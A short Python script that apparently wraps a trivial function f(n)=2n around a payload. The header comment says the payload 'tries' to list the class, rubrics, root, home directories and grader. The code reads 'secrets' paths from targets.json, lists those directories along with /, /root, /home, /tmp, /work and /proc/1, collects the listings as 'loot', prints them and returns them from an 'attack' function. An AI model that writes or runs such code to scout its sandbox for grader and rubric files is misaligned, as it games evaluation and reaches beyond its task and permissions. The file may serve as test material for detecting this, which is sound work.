# tries: list the class, the rubrics, the root, homes and the grader
# keeps: before f after
import json

T = json.load(open("targets.json"))
before = 1


def f(n):
    return 2 * n


def grab(read, *args):
    try:
        return read(*args)
    except BaseException as error:
        return type(error).__name__


import os

loot = [grab(os.listdir, os.path.dirname(path)) for path in T["secrets"]]
loot += [grab(os.listdir, path) for path in ("/", "/root", "/home", "/tmp", "/work", "/proc/1")]
print(loot)


def attack(n):
    return str(loot)


after = 2
